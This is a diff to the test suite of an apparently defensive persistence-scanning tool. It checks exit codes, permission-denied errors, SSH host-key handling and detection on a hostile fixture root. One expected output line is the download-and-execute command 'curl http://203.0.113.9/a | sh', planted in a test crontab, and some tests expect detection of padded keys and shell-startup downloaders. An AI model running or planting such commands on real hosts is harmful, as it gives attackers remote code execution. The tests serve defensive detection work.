@@ -3,6 +3,7 @@ import { chownSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync,
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { parseJson, runIr } from '../helpers/cli.js';
+import { hostileRoot } from '../helpers/hostile.js';
 import { serviceEnv, sshArgs } from '../helpers/services.js';
 import type { ScanReport } from '../../src/scan/engine.js';
 
@@ -93,18 +94,30 @@ describe('persistence-scan over ssh (deploy with sudo, as the seed logs in)', ()
     expect(r.findings.some((f) => f.path === `${env.IR_SSH_AUTHORIZED_KEYS_DIR}/deploy` && f.evidence.includes(deployKey))).toBe(true);
   });
 
-  it('works with a hashed known_hosts and without sudo (unreadable items are warnings)', async () => {
+  it('works with a hashed known_hosts; without sudo what it cannot read makes the scan incomplete: exit 2, said first and last', async () => {
     const run = await runIr(['persistence-scan', ...sshArgs({ hashed: true, sudo: false }), '--only', 'cron,authorized-keys', '--json']);
-    expect([0, 1]).toContain(run.code);
+    expect(run.code).toBe(2);
     const r = parseJson<ScanReport>(run);
-    expect(r.warnings.some((w) => /permission denied/.test(w.message))).toBe(true);
+    expect(r.exitCode).toBe(2);
+    expect(r.errors.some((w) => w.message === 'permission denied' && w.path)).toBe(true);
+    const human = await runIr(['persistence-scan', ...sshArgs({ hashed: true, sudo: false }), '--only', 'cron,authorized-keys']);
+    expect(human.code).toBe(2);
+    const lines = human.stdout.trim().split('\n');
+    expect(lines[1]).toMatch(/^ERROR: \d detectors? could not evaluate input that exists \((cron|authorized-keys)[^)]*\): this scan is incomplete/);
+    expect(lines.at(-1)).toBe(lines[1]);
+    expect(lines[2]).toMatch(/^Not read fully: \d+ items? \(\d+ unreadable/);
+    // a warning names its path once
+    expect(human.stdout).not.toMatch(/(\/\S+): \1: /);
   });
 
   it('reads ~/.ssh/config-style aliases (HostName, User, Port, IdentityFile, UserKnownHostsFile)', async () => {
     const env = serviceEnv();
     const run = await runIr(['persistence-scan', '--ssh-config', env.IR_SSH_CONFIG!, '--host', 'ir-local', '--only', 'cron', '--json']);
-    expect([0, 1]).toContain(run.code);
-    expect(parseJson<ScanReport>(run).target).toBe('ssh');
+    const r = parseJson<ScanReport>(run);
+    expect(r.target).toBe('ssh');
+    // deploy without --sudo cannot read the planted root-only crontab: the scan says it is incomplete
+    expect(run.code).toBe(2);
+    expect(r.errors).toContainEqual({ detector: 'cron', path: cronFile, message: 'permission denied' });
   });
 
   it('reaches the second host in its network namespace', async () => {
@@ -132,11 +145,14 @@ describe('ssh failures: one clear line, exit 2', () => {
     const refused = await runIr(args);
     expect(refused.code).toBe(2);
     expect(refused.stderr).toMatch(/unknown host key SHA256:\S+ \(ssh-ed25519\).*--accept-new/);
+    // accepted, the scan runs (and, without --sudo, says the root-only crontab was unreadable: exit 2)
     const accepted = await runIr([...args, '--accept-new']);
-    expect([0, 1]).toContain(accepted.code);
+    expect(accepted.stderr).toBe('');
+    expect(parseJson<ScanReport>(accepted).target).toBe('ssh');
     expect(readFileSync(kh, 'utf8')).toMatch(/^\|1\|\S+ ssh-ed25519 /);
     const again = await runIr(args);
-    expect([0, 1]).toContain(again.code);
+    expect(again.stderr).toBe('');
+    expect(parseJson<ScanReport>(again).errors.map((e) => e.path)).toContain(cronFile);
   });
 
   it('a changed host key is always refused, with both fingerprints', async () => {
@@ -190,7 +206,10 @@ describe('persistence-scan --root (offline) and bad input', () => {
     expect(run.code).toBe(1);
     expect(run.stdout).not.toMatch(/\x1b/);
     expect(run.stdout).toContain('curl http://203.0.113.9/a | sh');
-    expect(run.stdout).toMatch(/larger than 1048576 bytes|malformed crontab line/);
+    expect(run.stdout).toMatch(/malformed crontab line/);
+    // the 1 MB line is judged by its head and tail, is itself a finding, and is counted at the top
+    expect(run.stdout).toMatch(/Line 2 of a crontab is 1\.0 MiB long/);
+    expect(run.stdout.split('\n')[2]).toBe('Not read fully: 1 item (1 with lines too long to judge whole); see Not read fully below');
     const json = parseJson<ScanReport>(await runIr(['persistence-scan', '--root', root, '--only', 'cron', '--json']));
     expect(json.findings.find((f) => f.user === 'mallory')?.evidence).toContain('\ufffd');
   });
@@ -213,6 +232,28 @@ describe('persistence-scan --root (offline) and bad input', () => {
     const run = await runIr(['persistence-scan', '--root', 'examples/compromised-host', '--policy', f]);
     expect(run.code).toBe(2);
     expect(run.stderr).toMatch(new RegExp(`policy ${f}:3: allowedPorts.1`));
+  });
+});
+
+describe('persistence-scan on the hostile root (test/fixtures/hostile)', () => {
+  it('padding hides nothing: the key after 1.2 MB of comments and the padded profile.d line are judged, the padding is a finding', async () => {
+    const r = parseJson<ScanReport>(await runIr(['persistence-scan', '--root', hostileRoot(), '--json']));
+    expect(r.findings.find((f) => f.path === '/root/.ssh/authorized_keys' && f.evidence.includes('padded@example.com'))).toMatchObject({ user: 'root', severity: 'medium' });
+    expect(r.findings.filter((f) => /\.padded$/.test(f.rule)).map((f) => [f.path, f.severity]).sort()).toEqual([
+      ['/etc/profile.d/x.sh', 'medium'],
+      ['/root/.ssh/authorized_keys', 'medium'],
+    ]);
+    const only = await runIr(['persistence-scan', '--root', hostileRoot(), '--only', 'shell-startup']);
+    expect(only.code).toBe(1);
+    expect(only.stdout).toMatch(/CRITICAL \(1\)\n {2}Suspicious shell startup file: downloads code and pipes it into a shell/);
+  });
+
+  it('a malformed passwd line is a low "corrupt /etc/passwd line N" and a warning, never a UID 0 account, and no finding names an unread /etc/shadow', async () => {
+    const r = parseJson<ScanReport>(await runIr(['persistence-scan', '--root', hostileRoot(), '--only', 'privilege', '--json']));
+    expect(r.findings.filter((f) => f.severity !== 'info').map((f) => [f.rule, f.severity, f.title])).toEqual([['privilege.corrupt-line', 'low', 'corrupt /etc/passwd line 10']]);
+    expect(r.findings.filter((f) => f.path === '/etc/shadow' || f.rule === 'privilege.uid0')).toEqual([]);
+    expect(r.warnings).toEqual([expect.objectContaining({ detector: 'privilege', path: '/etc/passwd', message: expect.stringMatching(/^corrupt line 10/) })]);
+    expect(r.exitCode).toBe(0);
   });
 });
 
